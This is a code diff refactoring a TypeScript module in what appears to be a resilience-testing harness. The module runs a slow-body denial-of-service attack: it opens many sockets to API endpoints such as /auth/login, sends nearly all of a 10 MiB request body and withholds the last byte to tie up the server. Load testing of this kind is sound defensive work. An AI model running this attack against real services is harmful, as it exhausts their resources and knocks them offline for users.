@@ -1,8 +1,8 @@
 // Sends bodies whose last byte never comes.
 
-import { connect } from "node:net";
-import { type Attack, failureOf, Outcomes, repeat } from "../attack.ts";
+import { type Attack, Outcomes, repeat } from "../attack.ts";
 import { ANON_KEY } from "../callers.ts";
+import { holdSocket, sendBytes } from "../hold-socket.ts";
 
 const BODY_BYTES = 10 * 2 ** 20;
 const SOCKETS: Readonly<Record<string, number>> = {
@@ -11,7 +11,6 @@ const SOCKETS: Readonly<Record<string, number>> = {
   "/users": 40,
   "/auth/login": 40,
 };
-const PIECE = Buffer.alloc(64 * 1024, " ");
 
 export const attack: Attack = async (target) => {
   const outcomes = new Outcomes();
@@ -22,30 +21,10 @@ export const attack: Attack = async (target) => {
   return outcomes.result;
 };
 
-/** Resolves with the outcome: the status of a response, `closed`, or `held` until the end time. */
-function hold({ hostname, port, pathname }: URL, until: number): Promise<string> {
-  return new Promise((resolve) => {
-    const socket = connect(Number(port), hostname);
-    const end = (how: string) => {
-      clearTimeout(stop);
-      socket.destroy();
-      resolve(how);
-    };
-    const stop = setTimeout(() => end("held"), Math.max(0, until - Date.now()));
-    socket.on("error", (error) => end(failureOf(error)));
-    socket.on("close", () => end("closed"));
-    socket.on("data", (data) => end(data.toString("latin1", 9, 12)));
-    const head = `Host: ${hostname}\r\nContent-Type: application/json\r\napikey: ${ANON_KEY}`;
-    socket.write(`POST ${pathname} HTTP/1.1\r\n${head}\r\nContent-Length: ${BODY_BYTES}\r\n\r\n`);
-    let missing = BODY_BYTES - 1;
-    const send = () => {
-      while (missing > 0 && !socket.destroyed) {
-        const piece = PIECE.subarray(0, missing);
-        missing -= piece.length;
-        if (!socket.write(piece)) return;
-      }
-    };
-    socket.on("drain", send);
-    socket.once("connect", send);
+function hold(url: URL, until: number): Promise<string> {
+  return holdSocket(url, until, (socket) => {
+    const head = `Host: ${url.hostname}\r\nContent-Type: application/json\r\napikey: ${ANON_KEY}`;
+    socket.write(`POST ${url.pathname} HTTP/1.1\r\n${head}\r\nContent-Length: ${BODY_BYTES}\r\n\r\n`);
+    sendBytes(socket, BODY_BYTES - 1);
   });
 }
